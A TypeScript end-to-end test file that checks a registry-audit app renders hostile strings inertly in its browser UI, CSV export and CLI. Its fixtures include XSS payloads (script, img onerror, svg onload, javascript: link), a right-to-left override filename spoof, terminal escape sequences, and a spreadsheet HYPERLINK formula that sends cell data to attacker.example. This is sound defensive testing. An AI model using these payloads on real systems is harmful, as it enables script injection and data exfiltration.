import { spawnSync } from 'node:child_process'
import fs from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { NormalisedEvent } from '../../src/shared/event'
import { Archive } from '../../src/main/core/db/archive'
import type { IngestEvent } from '../../src/main/core/db/archive-types'
import { archivePath } from '../../src/main/core/paths'
import { visibleControls } from '../../src/shared/visible-controls'
import { AppPage } from './page-models/app-page'
import { launchChromium } from './support/browser'
import { parseCsv } from './support/csv'
import { ensureRendererBuilt, REPO_ROOT } from './support/renderer-build'
import { startServe, type ServeProcess } from './support/serve'

/**
 * Hostile strings from a source (issue 6 §5): repository names, actors, labels, tags and raw
 * records carrying HTML and script, right-to-left overrides, NUL and other control characters,
 * spreadsheet formulas and 100 KB strings, written into an archive and shown by the real renderer
 * in Chromium through browser mode. No script may run (a global a payload would set stays unset, no
 * dialog opens, no element of a payload exists, CSP reports no blocked inline script), the layout
 * must hold (every row one row high, nothing wider than the window), and the text must be shown as
 * text. The same archive's CSV export neutralises formulas and the CLI prints the values inertly.
 */

const ACCOUNT = 'e2e-hostile-hub'
const NEWEST = Math.floor(Date.now() / 60_000) * 60_000 - 60_000

const SCRIPT = '<script>window.__pwned = "script"</script>'
const IMG = '<img src=x onerror="window.__pwned=\'img\'">'
const SVG = '<svg onload="window.__pwned=\'svg\'"><circle r=1 /></svg>'
const LINK = '<a href="javascript:window.__pwned=\'href\'">click</a>'
const RLO = 'invoice\u202Egnp.exe'
const NUL = 'nul\u0000byte'
const CONTROLS = 'ctrl\u0001\u0007\u0008\u001b[31mred\u001b[0m\u001b]0;title\u0007'
const NEWLINES = 'first\nsecond\r\nthird\u2028fourth'
const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
const HUGE = 'W'.repeat(100 * 1024)
const HUGE_WORDS = 'word '.repeat(20 * 1024)

interface Hostile {
  name: string
  value: string
}

const HOSTILE: Hostile[] = [
  { name: 'script', value: SCRIPT },
  { name: 'img', value: IMG },
  { name: 'svg', value: SVG },
  { name: 'link', value: LINK },
  { name: 'rlo', value: RLO },
  { name: 'nul', value: NUL },
  { name: 'controls', value: CONTROLS },
  { name: 'newlines', value: NEWLINES },
  { name: 'formula', value: FORMULA },
  { name: 'huge', value: HUGE },
  { name: 'huge-words', value: HUGE_WORDS }
]

/** Every text column of an event carries the payload; event `i` is newer the smaller `i` is. */
function hostileEvent(i: number, payload: string): NormalisedEvent {
  return {
    occurred_at: NEWEST - i * 60_000,
    action: payload,
    verb: 'DELETE',
    activity: 'delete',
    outcome: 'success',
    actor: payload,
    actor_kind: 'user',
    namespace: payload,
    repository: `${payload}/${payload}`,
    tag: payload,
    digest: `sha256:${payload}`,
    target: payload,
    client_ip: payload,
    user_agent: payload,
    label: `${payload} deleted ${payload}`
  }
}

/** A few ordinary events around the hostile ones, so the rows can be compared with normal ones. */
function plainEvent(i: number): NormalisedEvent {
  return { ...hostileEvent(i, `plain-${i}`), verb: 'CREATE', activity: 'push', label: `alice pushed acme/app:${i}` }
}

let dataDir: string
let serve: ServeProcess
let browser: Browser
let context: BrowserContext
let page: Page
let app: AppPage
const dialogs: string[] = []
const pageErrors: string[] = []

beforeAll(async () => {
  await ensureRendererBuilt()
  dataDir = fs.mkdtempSync(path.join(tmpdir(), 'e2e-hostile-'))
  const archive = Archive.open(archivePath(dataDir))
  try {
    const account = archive.addAccount({ name: ACCOUNT, kind: 'dockerhub', url: 'http://127.0.0.1:9', options: { org: 'acme', username: 'seed' } })
    const events: IngestEvent[] = []
    HOSTILE.forEach((hostile, index) => {
      const normalised = hostileEvent(index * 2, hostile.value)
      events.push({ sourceEventId: `hostile-${hostile.name}`, raw: { payload: hostile.value, [hostile.value.slice(0, 200)]: hostile.value }, normalised })
      events.push({ sourceEventId: `plain-${index}`, raw: { plain: index }, normalised: plainEvent(index * 2 + 1) })
    })
    archive.writePage(account.id, 'seed', events, { seeded: true })
  } finally {
    archive.close()
  }
  serve = await startServe({ dataDir })
  browser = await launchChromium()
  context = await browser.newContext({ viewport: { width: 1440, height: 900 }, acceptDownloads: true })
  // Every way a payload could run reports here: a global it sets, and CSP's report of a blocked
  // inline script or handler. (zod probes for eval with `new Function`, which CSP refuses and
  // reports as blocked "eval": that probe is the app's own, and is left out.) Page-side code is
  // given as text: this file is type-checked without the DOM library.
  await context.addInitScript(`
    window.__cspViolations = []
    document.addEventListener('securitypolicyviolation', (event) => {
      if (event.blockedURI !== 'eval') window.__cspViolations.push(event.violatedDirective + ' ' + event.blockedURI)
    })
  `)
  page = await context.newPage()
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('pageerror', (error) => pageErrors.push(error.message))
  app = new AppPage(page)
  await app.open(`${serve.url}&pull=1`)
  await app.grid.waitReady()
})

afterAll(async () => {
  await context?.close()
  await browser?.close()
  await serve?.stop()
  if (dataDir !== undefined) fs.rmSync(dataDir, { recursive: true, force: true })
})

/** A value as the query bar reads it inside quotes. */
function quoted(value: string): string {
  return `"${value.replaceAll('\\', '\\\\').replaceAll('"', '\\"')}"`
}

/** Nothing ran: no global set, no dialog, no element of a payload in the document, no CSP report. */
async function expectNothingRan(): Promise<void> {
  const state = (await page.evaluate(`({
    pwned: window.__pwned,
    csp: window.__cspViolations,
    payloadElements: document.querySelectorAll('img[src="x"], svg[onload], a[href^="javascript:"], [onerror], [onload], script:not([src])').length
  })`)) as { pwned: unknown; csp: string[]; payloadElements: number }
  expect(state).toEqual({ pwned: undefined, csp: [], payloadElements: 0 })
  expect(dialogs).toEqual([])
  expect(pageErrors).toEqual([])
}

/** The page never scrolls sideways: whatever a value's length, it fits the window. */
async function expectNoPageOverflow(): Promise<void> {
  const size = (await page.evaluate(`({
    scroll: document.documentElement.scrollWidth,
    client: document.documentElement.clientWidth,
    bodyScroll: document.body.scrollWidth
  })`)) as { scroll: number; client: number; bodyScroll: number }
  expect(size.scroll).toBeLessThanOrEqual(size.client)
  expect(size.bodyScroll).toBeLessThanOrEqual(size.client)
}

describe('hostile strings from a source, in the browser', () => {
  it('are listed as text, one row each, with nothing run and nothing overflowing', async () => {
    expect(await app.grid.waitForCount()).toBe(HOSTILE.length * 2)
    // Everything rendered: the grid is tall enough for all 22 rows.
    await expect.poll(() => app.grid.rows.count()).toBe(HOSTILE.length * 2)
    const rows = await app.grid.rows.evaluateAll((elements) =>
      elements.map((row) => ({
        index: Number(row.getAttribute('data-index')),
        height: row.getBoundingClientRect().height,
        label: row.querySelector('[data-column="label"] .cell-text')?.textContent ?? '',
        tallestCell: Math.max(...[...row.querySelectorAll('[data-column]')].map((cell) => cell.getBoundingClientRect().height)),
        widestCell: Math.max(...[...row.querySelectorAll('[data-column]')].map((cell) => cell.getBoundingClientRect().width))
      }))
    )
    rows.sort((a, b) => a.index - b.index)
    const rowHeight = rows.find((row) => row.label.startsWith('alice pushed'))!.height
    for (const row of rows) {
      expect(row.height, `row ${row.index}`).toBe(rowHeight)
      expect(row.tallestCell, `row ${row.index}`).toBeLessThanOrEqual(rowHeight)
      expect(row.widestCell, `row ${row.index}`).toBeLessThan(1440)
    }
    // Row 2i is hostile payload i: its label shows markup as text, and characters that would act
    // (the override, NUL, escapes, line breaks) as visible escapes.
    HOSTILE.forEach((hostile, i) => {
      expect(rows[2 * i]!.label, hostile.name).toBe(visibleControls(`${hostile.value} deleted ${hostile.value}`))
    })
    const rlo = rows[2 * HOSTILE.findIndex((hostile) => hostile.name === 'rlo')]!.label
    expect(rlo).toBe('invoice\\u202egnp.exe deleted invoice\\u202egnp.exe')
    // eslint-disable-next-line no-control-regex
    expect(rows.map((row) => row.label).join('')).not.toMatch(/[\u0000-\u001f\u202a-\u202e\u2066-\u2069]/)
    await expectNoPageOverflow()
    await expectNothingRan()
    await app.screenshot('hostile-strings')
  })

  it('are shown inertly in the drawer, raw record included, within the window', async () => {
    for (const [i, hostile] of HOSTILE.entries()) {
      const started = Date.now()
      await app.grid.row(2 * i).locator('[data-column="label"]').click()
      await app.drawer.waitReady()
      expect(Date.now() - started, hostile.name).toBeLessThan(10_000)
      expect(await app.drawer.field('actor').textContent(), hostile.name).toContain(visibleControls(hostile.value))
      expect(await app.drawer.field('label').textContent(), hostile.name).toBe(visibleControls(`${hostile.value} deleted ${hostile.value}`))
      const raw = JSON.parse((await app.drawer.rawJson().textContent()) ?? 'null') as { payload: string }
      expect(raw.payload, hostile.name).toBe(hostile.value)
      const box = await app.drawer.root.boundingBox()
      expect(box!.x + box!.width, hostile.name).toBeLessThanOrEqual(1440)
      await expectNoPageOverflow()
      await app.drawer.close()
    }
    await expectNothingRan()
  })

  it('are offered inertly as filter values, and filter exactly', async () => {
    const panel = page.getByTestId('filters-panel')
    const box = await panel.boundingBox()
    expect(box!.width).toBeLessThan(600)
    expect(await panel.textContent()).toContain(IMG)
    // eslint-disable-next-line no-control-regex
    expect(await panel.textContent()).not.toMatch(/[\u0000-\u001f\u202a-\u202e\u2066-\u2069]/)
    await expectNoPageOverflow()
    // A payload typed into the query bar is a value to match, not markup.
    await app.search(`actor:${quoted(IMG)}`)
    expect(await app.grid.waitForCount()).toBe(1)
    expect((await app.grid.columnTexts('actor', 1))[0]).toBe(IMG)
    await app.search(`repo:${quoted(`${SCRIPT}/${SCRIPT}`)}`)
    expect(await app.grid.waitForCount()).toBe(1)
    await app.search('')
    await expectNothingRan()
  })

  it('are neutralised in the CSV export: formulas start with an apostrophe, text stays whole', async () => {
    await app.exportDialog.open()
    const download = await app.exportDialog.exportCsv()
    const file = path.join(dataDir, 'hostile.csv')
    await download.saveAs(file)
    await expect.poll(() => app.exportDialog.status().getAttribute('data-phase')).toBe('done')
    await page.keyboard.press('Escape')
    const [header, ...rows] = parseCsv(fs.readFileSync(file, 'utf8'))
    const column = (name: string): number => header!.indexOf(name)
    const byId = new Map(rows.map((row) => [row[column('source_event_id')], row]))
    const formula = byId.get('hostile-formula')!
    for (const name of ['label', 'action', 'actor', 'namespace', 'repository', 'tag', 'target', 'client_ip', 'user_agent']) {
      expect(formula[column(name)], name).toMatch(/^'=/)
    }
    expect(formula[column('actor')]).toBe(`'${FORMULA}`)
    // No cell of any row starts with what a spreadsheet would run.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    // Everything else arrives whole, NUL and 100 KB values included.
    expect(byId.get('hostile-nul')![column('actor')]).toBe(NUL)
    expect(byId.get('hostile-huge')![column('actor')]).toBe(HUGE)
    expect(byId.get('hostile-newlines')![column('actor')]).toBe(NEWLINES)
    await expectNothingRan()
  })

  it('are printed inertly by the CLI: no control, bidi or escape character reaches the terminal', () => {
    const run = spawnSync(process.execPath, [path.join(REPO_ROOT, 'bin', 'registry-audit.js'), '--data-dir', dataDir, 'events', '--include-pull', '--tz', 'UTC'], {
      cwd: REPO_ROOT,
      env: { ...process.env, COLUMNS: '200' },
      encoding: 'utf8'
    })
    expect(run.status).toBe(0)
    // eslint-disable-next-line no-control-regex
    expect(run.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
    expect(run.stdout).toContain('\\u202e')
    expect(run.stdout).toContain('\\x1b')
    expect(run.stdout.split('\n').length).toBeLessThan(HOSTILE.length * 2 + 10)
  })
})
